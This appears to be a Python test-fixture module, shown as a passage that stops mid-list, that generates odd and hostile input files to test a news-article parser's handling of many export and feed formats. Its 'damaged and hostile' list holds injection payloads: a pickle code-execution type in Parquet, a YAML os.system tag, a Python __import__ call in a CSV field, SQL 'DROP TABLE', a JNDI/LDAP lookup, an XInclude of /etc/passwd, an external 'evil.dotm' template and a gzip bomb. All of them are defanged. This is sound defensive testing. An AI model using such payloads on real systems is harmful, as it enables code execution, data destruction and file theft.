"""Bad inputs by one who had read the documents alone: what they name as readable, and what stands around it."""

import gzip
import io
import json
import quopri
import zipfile
import zlib

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

from bad_inputs.kinds import Kind

UNKNOWN, NOT_TEXT = ("form not known",), ("not text",)
RAN = "set_g_ran"  # a hostile file that runs as code would make this one


def paragraphs(s, n=1):
    return "".join(f"<p>{part}</p>\n" for part in s.long(n).split("\n\n"))


def packed(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 1, 0, 0, 0)), content)
    return out.getvalue()


def book(s, *, template=False):
    made = openpyxl.Workbook()
    made.active.append(["title", "date", "text"])
    for r in s.records():
        made.active.append([r["title"], r["date"], r["text"]])
    made.template = template
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def parquet(columns, **options):
    out = io.BytesIO()
    pq.write_table(columns if isinstance(columns, pa.Table) else pa.table(columns), out, **options)
    return out.getvalue()


def columns(s):
    return {name: [r[name] for r in s.records()] for name in ("title", "date", "text")}


def wall(title, *lines):
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title></head><body><h1>{title}</h1>"
        + "".join(f"<p>{line}</p>" for line in lines)
        + "</body></html>"
    )


def lexis(s, of=2, day="March 1, 2026 Sunday"):
    return "".join(
        f"\n                               {n} of {of} DOCUMENTS\n\n\n                              The Marlow Ledger\n\n"
        f"                             {day}\n\nRain {n} in {s.mark}\n\nBYLINE: Ana Roe\n\nSECTION: NEWS; Pg. A1\n\n"
        f"LENGTH: 40 words\n\n\n{s.text(n)}\n\nLOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\n"
        f"PUBLICATION-TYPE: Newspaper\n\n\n                       Copyright 2026 The Marlow Ledger\n"
        f"                              All Rights Reserved\n\n"
        for n in range(1, of + 1)
    )


def lexis_of_old(s):
    return "".join(
        f"\n                             {n} of 2 DOCUMENTS\n\n                  Copyright 1996 The Marlow Ledger\n"
        f"                         The Marlow Ledger\n\n                March 1, 1996, Friday, Late Edition\n\n"
        f"SECTION: Section A; Page {n}; Column 1; Metro Desk\n\nLENGTH: 40 words\n\nHEADLINE: Rain {n} in {s.mark}\n\n"
        f"BYLINE:  By ANA ROE\n\nBODY:\n   {s.text(n)}\n\nGRAPHIC: Photo: The hall.\n\nLANGUAGE: ENGLISH\n\n"
        f"LOAD-DATE: March 2, 1996\n\n"
        for n in (1, 2)
    )


LINE = "_" * 60


def proquest(s, above="", below=""):
    documents = "".join(
        f"{LINE}\n\nDocument {n} of 3\n\nRain {n} in {s.mark}\n\nAuthor: Roe, Ana\n\n"
        f"Publication info: The Marlow Ledger ; Marlow [Marlow]. 0{n} Mar 2026: A.1.\n\nProQuest document link\n\n"
        f"Full text: {s.text(n)}\n\nSubject: Rain; Councils\n\nTitle: Rain {n} in {s.mark}\n\n"
        f"Publication title: The Marlow Ledger; Marlow\n\nFirst page: A.1\n\nPublication year: 2026\n\n"
        f"Publication date: Mar {n}, 2026\n\nPublisher: The Marlow Ledger\n\nPlace of publication: Marlow\n\n"
        f"Country of publication: United States\n\nSource type: Newspapers\n\nLanguage of publication: English\n\n"
        f"Document type: News\n\nProQuest document ID: 300{n}\n\nLast updated: 2026-03-04\n\nDatabase: Newsstream\n\n"
        for n in (1, 2, 3)
    )
    return f"{above}{documents}{below or LINE}\n\nContact us at: http://help.example/  Copyright 2026 ProQuest LLC. All rights reserved.\n"


def factiva(s, of=2, *, without=0, end="</body></html>"):
    documents = "".join(
        f'<div id="article-MRLW00002026030{n}em3300001" class="article"><div class="article enArticle">'
        + ("" if n == without else f'<div id="hd"><span class="enHeadline">Rain {n} in {s.mark}</span></div>')
        + f'<div class="author">By Ana Roe</div><div>40 words</div><div>{n} March 2026</div><div>The Marlow Ledger</div>'
        f"<div>MRLW</div><div>A1</div><div>English</div><div>Copyright 2026 The Marlow Ledger</div>"
        f'<p class="articleParagraph enarticleParagraph">{s.text(n)}</p>'
        f"<p>Document MRLW00002026030{n}em3300001</p></div></div>\n"
        for n in range(1, of + 1)
    )
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{documents}"[:None] + end


def factiva_of_codes(s):
    def row(code, cell):
        return f'<tr><td class="index" valign="top"><b>{code}</b>&nbsp;</td><td>{cell}</td></tr>\n'

    documents = "".join(
        f'<div id="article-MRLW00002026030{n}em3300001" class="article"><div class="article enArticle"><table>'
        + row("HD", f'<span class="enHeadline">Rain {n} in {s.mark}</span>')
        + row("BY", "By Ana Roe")
        + row("WC", "40 words")
        + row("PD", f"{n} March 2026")
        + row("SN", "The Marlow Ledger")
        + row("SC", "MRLW")
        + row("PG", "A1")
        + row("LA", "English")
        + row("CY", "Copyright 2026 The Marlow Ledger")
        + row("LP", f'<p class="articleParagraph enarticleParagraph">{s.text(n)}</p>')
        + row("NS", "gweath : Weather")
        + row("RE", "usa : United States")
        + row("AN", f"Document MRLW00002026030{n}em3300001")
        + "</table></div></div>\n"
        for n in (1, 2)
    )
    return f"<!DOCTYPE html><html><head><title>Factiva</title></head><body>{documents}</body></html>"


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def nexis(s, *, office=False, template=False):
    def par(text, style=""):
        look = f'<w:pPr><w:pStyle w:val="{style or "Normal"}"/><w:rPr/></w:pPr>' if office else ""
        words = text.split(" ", 2) if office and len(text.split(" ")) > 2 else [text]
        label = (
            text
            if text in ("Body", "Classification", "End of Document")
            else text.split(" ")[0]
            if text.split(" ")[0].endswith(":")
            else ""
        )
        if label:  # labels are bold in what Nexis makes
            words = [label, *([text[len(label) :]] if text != label else [])]
        runs = "".join(
            f'<w:r>{"<w:rPr><w:b/></w:rPr>" if label and not k else "<w:rPr/>"}<w:t xml:space="preserve">{part}{" " if not label and k < len(words) - 1 else ""}</w:t></w:r>'
            for k, part in enumerate(words)
        )
        return f"<w:p>{look}{runs}</w:p>"

    body = ""
    for n in (1, 2):
        body += f'<w:p><w:bookmarkStart w:id="{n}" w:name="Bookmark_{n}"/><w:bookmarkEnd w:id="{n}"/></w:p>'
        body += (
            par(f"Rain {n} in {s.mark}", "Heading1")
            + par("The Marlow Ledger")
            + par(f"March {n}, 2026 Sunday" if n == 1 else f"March {n}, 2026 Monday")
        )
        body += par("Copyright 2026 The Marlow Ledger All Rights Reserved") + par("Section: NEWS; Pg. A1")
        body += par("Length: 40 words") + par("Byline: Ana Roe")
        body += par("Body").replace(
            "<w:r>", f'<w:bookmarkStart w:id="{n}0" w:name="Body_{n}"/><w:bookmarkEnd w:id="{n}0"/><w:r>', 1
        )
        body += par(s.text(n)) + par("Classification") + par("Language: ENGLISH") + par("Publication-Type: Newspaper")
        body += par("Load-Date: March 4, 2026") + par("End of Document")
    members = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{KIND}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}"><w:body>{body}<w:sectPr/></w:body></w:document>',
        "word/_rels/document.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{KIND}/settings" Target="settings.xml"/></Relationships>',
        "word/settings.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="{KIND}">'
        + ('<w:attachedTemplate r:id="rId9"/>' if template else "")
        + "</w:settings>",
    }
    if template:
        members["word/_rels/settings.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship Id="rId9" Type="{KIND}/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
        )
    if office:
        members["docProps/app.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template></Template><Application>LibreOffice/24.2.7.2$Linux_X86_64</Application><Pages>2</Pages></Properties>'
        )
    return packed(members)


def rss(s, item=None, *, names="", channel="", end="", head='<?xml version="1.0" encoding="UTF-8"?>\n'):
    item = item or (lambda n: f"<content:encoded><![CDATA[{paragraphs(s, n)}]]></content:encoded>")
    items = "".join(
        f"<item><title>Rain {n} in {s.mark}</title><link>https://ledger.example/rain-{n}</link>"
        f"<pubDate>Sun, 01 Mar 2026 10:00:00 GMT</pubDate>{item(n)}</item>\n"
        for n in (1, 2, 3)
    )
    return (
        f'{head}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"{names}><channel><title>Ledger</title>'
        f"<link>https://ledger.example/</link><description>News</description>{channel}{items}</channel></rss>{end}"
    )


def atom_of_old(s):
    entries = "".join(
        f'<entry><title type="text/plain" mode="xml">Rain {n} in {s.mark}</title>'
        f'<link rel="alternate" type="text/html" href="https://ledger.example/rain-{n}"/><id>tag:ledger.example,2026:{n}</id>'
        f"<issued>2026-03-01T10:00:00Z</issued><modified>2026-03-01T10:00:00Z</modified><author><name>Ana Roe</name></author>"
        f'<content type="text/html" mode="escaped">{paragraphs(s, n).replace("<", "&lt;").replace(">", "&gt;")}</content></entry>'
        for n in (1, 2, 3)
    )
    return f'<?xml version="1.0" encoding="utf-8"?><feed version="0.3" xmlns="http://purl.org/atom/ns#" xml:lang="en"><title>Ledger</title><modified>2026-03-01T10:00:00Z</modified>{entries}</feed>'


def answer(uri, body, *, end="\r\n", more=""):
    html = body if isinstance(body, bytes) else body.encode()
    http = (
        end.join(
            [
                "HTTP/1.1 200 OK",
                "Content-Type: text/html; charset=utf-8",
                *([more] if more else []),
                f"Content-Length: {len(html)}",
            ]
        )
        + end * 2
    ).encode() + html
    head = end.join(
        [
            "WARC/1.0",
            "WARC-Type: response",
            f"WARC-Target-URI: {uri}",
            "WARC-Date: 2026-03-01T10:00:00Z",
            f"WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{len(html):012d}>",
            "Content-Type: application/http; msgtype=response",
            f"Content-Length: {len(http)}",
        ]
    )
    return (head + end * 2).encode() + http + (end * 2).encode()


def raw_deflate(data):
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    return press.compress(data) + press.flush()


def bomb(size=11 << 27):
    press = zlib.compressobj(1, zlib.DEFLATED, 31)
    chunk = b"<p>" + b"rain " * 200_000
    out = [press.compress(b"<!DOCTYPE html><html><body>")]
    out += [press.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join([*out, press.flush()])


def spoilt(data):
    """Return bytes as an editor of texts saves them that took them for UTF-8."""
    made = data.decode("utf-8", "replace").encode()
    assert made != data
    return made


def word_page(s):
    html = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">\n'
        f'<head><meta http-equiv=Content-Type content="text/html; charset=us-ascii"><meta name=Generator content="Microsoft Word 15"><title>Rain 1 in {s.mark}</title>\n'
        "<style><!-- p.MsoNormal {margin:0in;font-size:12.0pt;} --></style></head>\n<body lang=EN-US><div class=WordSection1>\n"
        f"<h1>Rain 1 in {s.mark}<o:p></o:p></h1>\n"
        + "".join(
            f"<p class=MsoNormal>{part}<o:p></o:p></p>\n<p class=MsoNormal><o:p>&nbsp;</o:p></p>\n"
            for part in s.long().split("\n\n")
        )
        + "</div></body></html>\n"
    )
    text = (
        'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="----=_NextPart_01DC0000.00000000"\n\n'
        "This document is a Single File Web Page, also known as a Web Archive file.  If you are seeing this message, your browser or editor doesn't support Web Archive files.\n\n"
        "------=_NextPart_01DC0000.00000000\nContent-Location: file:///C:/0000/Rain.htm\nContent-Transfer-Encoding: quoted-printable\n"
        'Content-Type: text/html; charset="us-ascii"\n\n' + quopri.encodestring(html.encode()).decode() + "\n\n"
        "------=_NextPart_01DC0000.00000000\nContent-Location: file:///C:/0000/Rain_files/filelist.xml\nContent-Transfer-Encoding: quoted-printable\n"
        'Content-Type: text/xml; charset="utf-8"\n\n<xml xmlns:o=3D"urn:schemas-microsoft-com:office:office"><o:File HRef=3D"filelist.xml"/></xml>\n'
        "------=_NextPart_01DC0000.00000000--\n"
    )
    return text.replace("\n", "\r\n")


def amp(s):
    return (
        '<!doctype html><html ⚡ lang="en"><head><meta charset="utf-8"><script async src="https://cdn.ampproject.example/v0.js"></script>'
        f'<title>Rain 1 in {s.mark}</title><link rel="canonical" href="https://ledger.example/rain"><meta name="viewport" content="width=device-width">'
        "<style amp-boilerplate>body{animation:-amp-start 8s steps(1,end) 0s 1 normal both}@keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}</style>"
        "<noscript><style amp-boilerplate>body{animation:none}</style></noscript></head><body>"
        '<amp-sidebar id="side" layout="nodisplay"><ul><li><a href="/">Home</a></li><li><a href="/sports">Sports</a></li></ul></amp-sidebar>'
        f'<main><h1>Rain 1 in {s.mark}</h1><amp-img src="a.jpg" width="600" height="400" layout="responsive"></amp-img>'
        f'<div class="article-body">{paragraphs(s)}</div><amp-ad width="300" height="250" type="none"></amp-ad></main></body></html>'
    )


def reading_view(s):
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title></head><body><div class="container" dir="ltr">'
        f'<div class="header reader-header"><a class="domain reader-domain" href="https://ledger.example/rain">ledger.example</a><h1 class="reader-title">Rain 1 in {s.mark}</h1>'
        '<div class="credits reader-credits">Ana Roe</div><div class="meta-data"><div class="reader-estimated-time">2 minutes</div></div></div><hr>'
        f'<div class="content"><div class="moz-reader-content reader-show-element"><div id="readability-page-1" class="page">{paragraphs(s)}</div></div></div></div></body></html>'
    )


def print_view(s):
    return (
        f"<HTML><HEAD><TITLE>Rain 1 in {s.mark} - printer friendly</TITLE></HEAD><BODY BGCOLOR=#FFFFFF><CENTER><FONT SIZE=+2><B>Rain 1 in {s.mark}</B></FONT></CENTER><HR>"
        "<FONT FACE=Times SIZE=3>" + "<BR><BR>\n".join(s.long().split("\n\n")) + "</FONT><HR></BODY></HTML>"
    )


def shadow(s):
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title></head><body><header>The Marlow Ledger</header>'
        f'<news-story><template shadowrootmode="open"><style>p{{margin:0}}</style><article><h1>Rain 1 in {s.mark}</h1>{paragraphs(s)}</article></template></news-story></body></html>'
    )


def cell(s):
    return '"' + s.long() + "\n\n" + f'""No vote today,"" the clerk of {s.mark} wrote on the door of the hall."\n'


def wire(s):
    first, *others = s.long().split("\n\n")
    return "\n".join(
        [
            f"^Rain 1 in {s.mark}<",
            "^By ANA ROE=",
            "^Continental Wire Service=",
            f"   MARLOW (CWS) _ {first}",
            *(f"   {part}" for part in others),
            "",
        ]
    )


def of_google(s):
    parts = s.long().split("\n\n")
    parts[0] += "[a]"
    parts[2] += "[b]"
    return (
        f"\ufeffRain 1 in {s.mark}\r\n\r\n"
        + "\r\n\r\n".join(parts)
        + "\r\n\r\n\r\n[a]Check with the clerk\r\n[b]Done\r\n"
    )


def bindings(s):
    return json.dumps({
        "head": {"vars": ["title", "date", "text"]},
        "results": {"bindings": [{
            "title": {"type": "literal", "value": r["title"]},
            "date": {"type": "literal", "datatype": "http://www.w3.org/2001/XMLSchema#date", "value": r["date"]},
            "text": {"type": "literal", "xml:lang": "en", "value": r["text"]},
        } for r in s.records()]},
    })  # fmt: skip


def of_powershell(s):
    rows = json.dumps({"value": [r | {"date": "DATE"} for r in s.records()], "Count": 3}, indent=4)
    return rows.replace('"DATE"', r'"\/Date(1772359200000)\/"').replace("\n", "\r\n")


def of_pandas(s):
    return json.dumps({
        "schema": {"fields": [{"name": "index", "type": "integer"}, *({"name": name, "type": "string"} for name in ("title", "date", "text"))], "primaryKey": ["index"], "pandas_version": "1.4.0"},
        "data": [{"index": k} | r for k, r in enumerate(s.records())],
    })  # fmt: skip


def of_r(s):
    quoted = [
        ",".join('"' + v + '"' for v in [str(n), r["title"], r["date"], r["text"]])
        for n, r in enumerate(s.records(), 1)
    ]
    return "\n".join(['"title","date","text"', *quoted, ""])


def lost_row(s):
    head, first, second, third = s.table().splitlines()
    return "\n".join([head, first, "\0" * len(second), third, ""])


def of_a_type(s):
    code = b"cos\nsystem\n(S'touch " + RAN.encode() + b"_parquet'\ntR."
    names = ["title", "date", "text"]
    fields = [pa.field(name, pa.string()) for name in names]
    fields.append(
        pa.field(
            "extra",
            pa.string(),
            metadata={"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": code},
        )
    )
    data = [pa.array(columns(s)[name]) for name in names] + [pa.array(["a", "b", "c"])]
    return parquet(pa.table(data, schema=pa.schema(fields)))


def int96(s):
    import datetime

    times = pa.array([datetime.datetime(2026, 3, 1, 10)] * 3, pa.timestamp("ns"))
    return parquet(
        pa.table({"title": columns(s)["title"], "date": times, "text": columns(s)["text"]}),
        use_deprecated_int96_timestamps=True,
    )


def long_text(s):
    words = (s.text() + " ") * (60_000_000 // (len(s.text()) + 1))
    return parquet(
        {"title": [f"Rain in {s.mark}"], "date": ["2026-03-01"], "text": pa.array([words], pa.large_string())},
        compression="zstd",
        use_dictionary=False,
        write_statistics=False,
    )


def hexadecimal():
    data = gzip.compress(b"".join(bytes([k * 37 % 251, k % 256]) for k in range(900)), mtime=0)
    lines = []
    for at in range(0, len(data), 16):
        part = data[at : at + 16]
        pairs = " ".join(part[k : k + 2].hex() for k in range(0, len(part), 2))
        lines.append(f"{at:08x}: {pairs:<39}  " + "".join(chr(b) if 32 < b < 127 else "." for b in part))
    return "\n".join(lines) + "\n"


PATCH = """diff --git a/rain.py b/rain.py
index 83db48f..bf269f4 100644
--- a/rain.py
+++ b/rain.py
@@ -1,9 +1,11 @@ def measure(gauge):
     total = 0
-    for day in gauge.days:
-        total += day.rain
+    for day in gauge.days():
+        if day.rain is None:
+            continue
+        total += float(day.rain)
     return total
 
 
 def mean(gauge):
-    return measure(gauge) / len(gauge.days)
+    return measure(gauge) / max(1, len(gauge.days()))
"""  # noqa: W293

STOCKS = "Ticker Last Change Volume\n" + "".join(
    f"{chr(65 + k % 26)}{chr(65 + k * 7 % 26)}{chr(65 + k * 3 % 26)} {12 + k}.{k * 17 % 100:02d} {'+' if k % 2 else '-'}0.{k * 13 % 100:02d} {k * 1310 + 900}\n"
    for k in range(60)
)

VOTES = "county,precinct,office,candidate,party,votes\n" + "".join(
    f"Marlow,{k:03d},Mayor,{name},{party},{k * 31 % 400}\n"
    for k in range(1, 40)
    for name, party in (("Ana Roe", "IND"), ("Tom Vale", "GRN"))
)

PACKAGE = json.dumps(
    {
        "name": "rain",
        "licenses": [{"name": "CC0-1.0"}],
        "resources": [
            {
                "name": "articles",
                "path": "articles.csv",
                "format": "csv",
                "schema": {"fields": [{"name": name, "type": "string"} for name in ("title", "date", "text")]},
            }
        ],
    },
    indent=2,
)

TOMCAT = '<!doctype html><html lang="en"><head><title>HTTP Status 404 – Not Found</title><style type="text/css">body {font-family:Tahoma;}</style></head><body><h1>HTTP Status 404 – Not Found</h1><hr class="line" /><p><b>Type</b> Status Report</p><p><b>Message</b> The requested resource [/rain] is not available</p><p><b>Description</b> The origin server did not find a current representation for the target resource or is not willing to disclose that one exists.</p><hr class="line" /><h3>Apache Tomcat/9.0.80</h3></body></html>'

ASPNET = "<!DOCTYPE html><html><head><title>Runtime Error</title></head><body bgcolor=\"white\"><span><H1>Server Error in '/' Application.<hr width=100% size=1 color=silver></H1><h2> <i>Runtime Error</i> </h2></span><b> Description: </b>An application error occurred on the server. The current custom error settings for this application prevent the details of the application error from being viewed remotely (for security reasons). It could, however, be viewed by browsers running on the local server machine.<br><br><b>Details:</b> To enable the details of this specific error message to be viewable on remote machines, please create a &lt;customErrors&gt; tag within a &quot;web.config&quot; configuration file located in the root directory of the current web application.</body></html>"

DATABASE = '<!DOCTYPE html><html lang="en-US"><head><meta charset="utf-8"><title>Database Error</title></head><body id="error-page"><div class="wp-die-message"><h1>Error establishing a database connection</h1></div></body></html>'


# Odd inputs that are kept whole.
ODD = [
    Kind("one cell of a spreadsheet, copied to a text file", "a.txt", cell, 1),
    Kind("stories whose numbers have a comma for thousands", "a.txt", lambda s: "".join(f"Document 1,20{n} of 1,204\n\nRain {n} in {s.mark}\n\n{s.long(n)}\n\n\n" for n in (1, 2, 3)), 3),
    Kind("stories between rules with blanks on both sides", "a.txt", lambda s: "\r\n   --------   \r\n".join(f"\r\nRain {n} in {s.mark}\r\n\r\n" + s.long(n).replace("\n", "\r\n") + "\r\n" for n in (1, 2, 3)), 3),
    Kind("wire copy with carets for headline and byline", "a.txt", wire, 1),
    Kind("text of Google Docs with letters for its remarks", "a.txt", of_google, 1),
    Kind("page that says utf-8 with a semicolon behind", "a.html", lambda s: s.page(f"<p>The café was “shut” on that day, the owner in {s.mark} said.</p>", head='<meta http-equiv="Content-Type" content="text/html; charset=utf-8;">'), 1),
    Kind("page in ISO 8859-15 with the sign of the euro", "a.html", lambda s: s.page(f"<p>A ticket for the café costs €5 in {s.mark}, the clerk said.</p>", head='<meta charset="iso-8859-15">').encode("iso8859-15"), 1),
    Kind("page of AMP", "a.html", amp, 1),
    Kind("page as the reading view of a browser saved it", "a.html", reading_view, 1),
    Kind("print view whose paragraphs are parted by two breaks", "a.htm", print_view, 1),
    Kind("page whose story stands in a shadow root", "a.html", shadow, 1),
    Kind("page that Word saved as one file", "a.mht", word_page, 1),
    Kind("LexisNexis of the nineties with HEADLINE and BODY", "a.txt", lexis_of_old, 2, fields={"published": "1996-03-01"}),
    Kind("LexisNexis with the day before the month", "a.txt", lambda s: lexis(s, day="1 March 2026 Sunday"), 2, fields={"published": "2026-03-01"}),
    Kind("ProQuest with its list of contents on top", "a.txt", lambda s: proquest(s, "Table of contents\n\n" + "".join(f"{n}. Rain {n} in {s.mark}........................{n}\n" for n in (1, 2, 3)) + "\n"), 3),
    Kind("ProQuest with a bibliography at its end", "a.txt", lambda s: proquest(s, below=f"{LINE}\n\nBibliography\n\nCitation style: APA 7th - American Psychological Association, 7th Edition\n\n" + "".join(f"Roe, A. (2026, Mar 0{n}). Rain {n} in {s.mark}. The Marlow Ledger Retrieved from https://search.example/docview/300{n}\n\n" for n in (1, 2, 3)) + LINE), 3),
    Kind("Factiva with codes for its fields", "a.html", factiva_of_codes, 2),
    Kind("Nexis that LibreOffice saved again", "a.docx", lambda s: nexis(s, office=True), 2),
    Kind("Atom of version 0.3", "a.xml", atom_of_old, 3),
    Kind("RSS with a body of XHTML in each item", "a.xml", lambda s: rss(s, lambda n: f'<body xmlns="http://www.w3.org/1999/xhtml">{paragraphs(s, n)}</body>'), 3),
    Kind("RSS for Yandex with the full text beside a teaser", "a.xml", lambda s: rss(s, lambda n: f"<description>Rain in {s.mark}.</description><yandex:genre>message</yandex:genre><yandex:full-text>{s.long(n)}</yandex:full-text>", names=' xmlns:yandex="http://news.yandex.ru"'), 3),
    Kind("RSS whose items hold a whole page each", "a.xml", lambda s: rss(s, lambda n: f'<content:encoded><![CDATA[<!doctype html><html lang="en"><head><meta charset="utf-8"><link rel="canonical" href="https://ledger.example/rain-{n}"><meta property="op:markup_version" content="v1.0"></head><body><article><header><h1>Rain {n} in {s.mark}</h1></header>{paragraphs(s, n)}<footer><small>Ledger</small></footer></article></body></html>]]></content:encoded>'), 3),
    Kind("table of R with names of rows that its header lacks", "a.csv", of_r, 3),
    Kind("workbook that is a template", "a.xltx", lambda s: book(s, template=True), 3),
    Kind("Parquet packed by Brotli", "a.parquet", lambda s: parquet(columns(s), compression="brotli"), 3),
    Kind("Parquet with the times of an old Spark", "a.parquet", int96, 3, fields={"published": "2026-03-01"}),
    Kind("answer of Airtable", "a.json", lambda s: json.dumps({"records": [{"id": f"rec{n}", "createdTime": "2026-03-05T10:00:00.000Z", "fields": r} for n, r in enumerate(s.records())], "offset": "itr1/rec3"}), 3),
    Kind("answer of a SPARQL endpoint", "a.srj", bindings, 3),
    Kind("lines out of DynamoDB, packed", "a.json.gz", lambda s: gzip.compress("".join(json.dumps({"Item": {name: {"S": value} for name, value in r.items()} | {"views": {"N": "7"}}}) + "\n" for r in s.records()).encode(), mtime=0), 3),
    Kind("list of PowerShell with its count and Microsoft's dates", "a.json", of_powershell, 3, fields={"published": "2026-03-01"}),
    Kind("table of pandas with its schema", "a.json", of_pandas, 3),
    Kind("web archive with line ends of Unix", "a.warc", lambda s: answer("https://ledger.example/rain", s.page(), end="\n"), 1),
    Kind("page packed by raw deflate in a web archive", "a.warc", lambda s: answer("https://ledger.example/rain", raw_deflate(s.page().encode()), more="Content-Encoding: deflate"), 1),
    Kind("days as Oracle writes them", "a.csv", lambda s: s.table().replace("2026-03-01", "01-MAR-26").replace("2026-03-02", "01-MAR-26").replace("2026-03-03", "01-MAR-26"), 3, fields={"published": "2026-03-01"}),
    Kind("table beside its datapackage.json", "", lambda s: {"articles.csv": s.table(), "datapackage.json": PACKAGE}, 3, ("no text",)),
]  # fmt: skip

# Damaged and hostile ones.
BAD = [
    Kind("list between the fences of a chatbot", "a.json", lambda s: "```json\n" + json.dumps(s.records(), indent=2) + "\n```\n", 3),
    Kind("table between the fences of a chatbot", "a.csv", lambda s: "```csv\n" + s.table() + "```\n", 3),
    Kind("header of HTTP above a list", "a.json", lambda s: "HTTP/1.1 200 OK\r\nDate: Sun, 01 Mar 2026 10:00:00 GMT\r\nContent-Type: application/json\r\n\r\n" + json.dumps(s.records()), 3),
    Kind("feed with bare ampersands in its titles", "a.xml", lambda s: rss(s).replace("<title>Rain", "<title>Rain & Hail"), 3),
    Kind("feed with names of signs that nobody declared", "a.xml", lambda s: rss(s).replace("<title>Rain", "<title>Rain&nbsp;&mdash;&nbsp;"), 3),
    Kind("feed with a script of its host behind its end", "a.xml", lambda s: rss(s, end='\n<script src="https://host.example/count.js"></script>\n<!-- 0.2 seconds -->\n'), 3),
    Kind("feed that includes a file by XInclude", "a.xml", lambda s: rss(s, names=' xmlns:xi="http://www.w3.org/2001/XInclude"', channel='<xi:include href="file:///etc/passwd" parse="text"/>'), 3),
    Kind("Factiva that ends behind its second article", "a.html", lambda s: factiva(s, 2, end="").removesuffix("</div></div>\n"), 2),
    Kind("Factiva with an article that has no headline", "a.html", lambda s: factiva(s, 3, without=2), 3),
    Kind("row of a table overwritten by NULs", "a.csv", lost_row, 2, ("broken row",)),
    Kind("names that are a call of Python", "a.csv", lambda s: "title,date,authors,text\n" + "".join(f"""{r['title']},{r['date']},"[__import__('os').system('touch {RAN}_names')]","{r['text']}"\n""" for r in s.records()), 3),
    Kind("header in YAML that calls a program", "a.md", lambda s: f'---\ntitle: Rain 1 in {s.mark}\nauthor: !!python/object/apply:os.system ["touch {RAN}_yaml"]\n---\n\n{s.long()}\n', 1),
    Kind("Parquet with a type of its own that is code", "a.parquet", of_a_type, 3),
    Kind("headlines that drop a table", "a.json", lambda s: json.dumps([r | {"title": r["title"] + "'); DROP TABLE articles; --"} for r in s.records()]), 3),
    Kind("outlet that asks a server for a class", "a.json", lambda s: json.dumps([r | {"outlet": "${jndi:ldap://127.0.0.1:9/a}"} for r in s.records()]), 3),
    Kind("Nexis with a template from elsewhere", "a.docx", lambda s: nexis(s, template=True), 2),
    Kind("page with 20,000 names of authors for machines", "a.html", lambda s: s.page(head="".join(f'<meta property="article:author" content="Ana Roe {k}">' for k in range(20_000))), 1),
    Kind("page that unpacks to more than a gigabyte beside a good one in a web archive", "a.warc", lambda s: answer("https://ledger.example/rain", s.page()) + answer("https://ledger.example/hail", bomb(), more="Content-Encoding: gzip"), 1, ("over the limit: unpacked_mb",)),
    Kind("text of 60 MB in a row of Parquet", "a.parquet", long_text, 0, ("over the limit: text_mb",)),
    Kind("workbook that an editor of texts saved", "a.xlsx", lambda s: spoilt(book(s)), 0, ("damaged zip",)),
    Kind("gzip that an editor of texts saved", "a.csv.gz", lambda s: spoilt(gzip.compress(s.table().encode(), mtime=0)), 0, NOT_TEXT),
    Kind("bytes of a file in hexadecimal", "a.txt", lambda s: hexadecimal(), 0, ("no story",)),
    Kind("changes to a program", "a.patch", lambda s: PATCH, 0, UNKNOWN),
    Kind("prices of stocks", "a.txt", lambda s: STOCKS, 0, ("no story",)),
    Kind("votes by precinct", "a.csv", lambda s: VOTES, 0, ("no text column",)),
    Kind("a page that is not there, in Danish", "a.html", lambda s: wall("Siden blev ikke fundet", "Siden, du leder efter, findes ikke længere eller er blevet flyttet. Gå til forsiden."), 0, ("not an article",)),
    Kind("a page that is not there, in Indonesian", "a.html", lambda s: wall("Halaman tidak ditemukan", "Halaman yang Anda cari tidak ada atau sudah dipindahkan. Kembali ke beranda."), 0, ("not an article",)),
    Kind("a page to log in, in Italian", "a.html", lambda s: wall("Accedi - La Gazzetta di Collina", "Indirizzo e-mail", "Password", "Hai dimenticato la password?", "Non hai un account? Registrati."), 0, ("not an article",)),
